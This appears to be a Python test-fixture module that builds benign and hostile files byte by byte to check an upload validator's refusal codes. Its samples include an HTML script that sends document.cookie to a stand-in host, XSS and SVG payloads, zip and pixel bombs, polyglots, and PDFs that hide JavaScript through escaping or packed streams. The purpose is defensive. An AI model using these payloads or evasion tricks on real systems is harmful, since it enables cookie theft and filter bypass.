"""Files for tests, made byte by byte: the honest ones and the hostile ones."""

import io
import struct
import zipfile
import zlib


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    rows = zlib.compress(b"".join(b"\0" + b"\xff\x00\x00" * 2 for _ in range(2)))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [chunk(b"IHDR", head), chunk(b"IDAT", rows), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def jpeg(width: int = 8, height: int = 8) -> bytes:
    """The segments of a baseline picture; its data is noise, which nobody decodes."""
    app = b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\0"
    scan = b"\x01\x01\0\0\x3f\0"
    out = b"\xff\xd8"
    for marker, body in ((0xE0, app), (0xDB, b"\0" + b"\x10" * 64), (0xC0, frame), (0xDA, scan)):
        out += bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body
    return out + b"\x12\x34\x56" * 20 + b"\xff\xd9"


def packed(
    objects: bytes,
    head: bytes = b"/Filter /FlateDecode",
    kind: bytes = b"/ObjStm",
    body: bytes = b"",
) -> bytes:
    """A PDF with these objects in a compressed stream, as most programs write them today."""
    body = body or (zlib.compress(objects) if b"FlateDecode" in head else objects)
    return pdf(
        objects=b"4 0 obj\n<< /Type %s /N 1 /First 4 /Length %d %s >>\nstream\n%s"
        b"\nendstream\nendobj\n" % (kind, len(body), head, body)
    )


def pdf(extra: bytes = b"", trailer: bytes = b"", objects: bytes = b"") -> bytes:
    body = (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"3 0 obj\n<< /Length 12 >>\nstream\n/JS \x01\xff\x80 /XF\nendstream\nendobj\n" + objects
    )
    start = len(body)
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R " + trailer + b" >>\n"
    return body + table + b"startxref\n" + str(start).encode() + b"\n%%EOF\n"


def archive(name: str = "a.html", body: bytes = b"<script>alert(1)</script>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, body)
    return out.getvalue()


def bomb() -> bytes:
    """Ten megabytes of zeros in ten kilobytes, said to be a document."""
    return archive("document.pdf", b"\0" * 10_000_000)


def picture_bomb() -> bytes:
    """A picture of ten thousand million pixels in a hundred bytes."""
    return png(100_000, 100_000)


HTML = b"<!doctype html><script>fetch('//example.org/'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
# name → (bytes, the code of the refusal)
HOSTILE = {
    "html": (HTML, "file_type"),
    "html called pdf": (HTML, "file_type"),
    "svg": (SVG, "file_type"),
    "html after a space": (b"\n" + pdf(), "file_type"),
    "zip": (archive(), "file_type"),
    "zip bomb": (bomb(), "file_type"),
    "program": (b"MZ\x90\0" + b"\0" * 200, "file_type"),
    "gif": (b"GIF89a" + b"\0" * 30, "file_type"),
    "empty": (b"", "file_empty"),
    "pdf and zip": (pdf() + archive(), "file_damaged"),
    "pdf cut short": (pdf()[:-40], "file_damaged"),
    "pdf that is a word": (b"%PDF-1.7\n<script>alert(1)</script>", "file_damaged"),
    "pdf with a false table": (
        b"%PDF-1.7\n<html>\nstartxref\n9\n%%EOF\n",
        "file_damaged",
    ),
    "pdf with a script": (
        pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "file_active",
    ),
    "pdf with an escaped name": (pdf(b"/A << /S /#4aavaScript >>"), "file_active"),
    "pdf with a file in it": (pdf(b"/Names << /EmbeddedFile 3 0 R >>"), "file_active"),
    "pdf with a script in packed objects": (
        packed(b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "file_active",
    ),
    "pdf with a short action in packed objects": (
        packed(b"5 0 << /S /Rendition /JS (x) >>", b"/Filter [ /FlateDecode ] /A 1"),
        "file_active",
    ),
    "pdf whose packed objects are plain": (packed(b"5 0 << /JS (x) >>", b""), "file_active"),
    "pdf packed in a way of its own": (
        packed(b"5 0 <3c3c>", b"/Filter /ASCIIHexDecode"),
        "file_complex",
    ),
    "pdf packed twice": (
        packed(b"5 0 << >>", b"/Filter [/FlateDecode /ASCIIHexDecode]"),
        "file_complex",
    ),
    "pdf bomb in packed objects": (packed(b"\0" * 40_000_000), "file_complex"),
    "pdf whose packed objects are cut in our eyes only": (
        packed(b"", body=zlib.compress(b"endstream << /S /Rendition /JS (x) >>", 0)),
        "file_complex",
    ),
    "pdf whose packed dictionary is beyond reach": (
        packed(b"5 0 << >>", b"%" + b" " * 5000 + b"\n/Filter /FlateDecode"),
        "file_complex",
    ),
    "pdf with an escaped type": (
        packed(b"5 0 << /S /JavaScript >>", kind=b"/Obj#53tm"),
        "file_active",
    ),
    "pdf that hides a script in false streams": (
        pdf(b"/A << /Type /Action %stream\n/S /JavaScript /JS (x)\n%endstream\n >>"),
        "file_active",
    ),
    "pdf under a password": (pdf(trailer=b"/Encrypt 9 0 R"), "file_locked"),
    "png and html": (png() + HTML, "file_two_formats"),
    "png and zip": (png() + archive(), "file_two_formats"),
    "png cut short": (png()[:-6], "file_damaged"),
    "png with a wrong sum": (png().replace(b"IDAT", b"iDAT"), "file_damaged"),
    "png without its head": (b"\x89PNG\r\n\x1a\n" + png()[33:], "file_damaged"),
    "png bomb": (picture_bomb(), "file_pixels"),
    "jpeg and html": (jpeg() + HTML, "file_two_formats"),
    "jpeg and zip": (jpeg() + archive(), "file_two_formats"),
    "jpeg cut short": (jpeg()[:40], "file_damaged"),
    "jpeg of four letters": (b"\xff\xd8\xff\xe0", "file_damaged"),
    "jpeg bomb": (jpeg(65_000, 65_000), "file_pixels"),
}
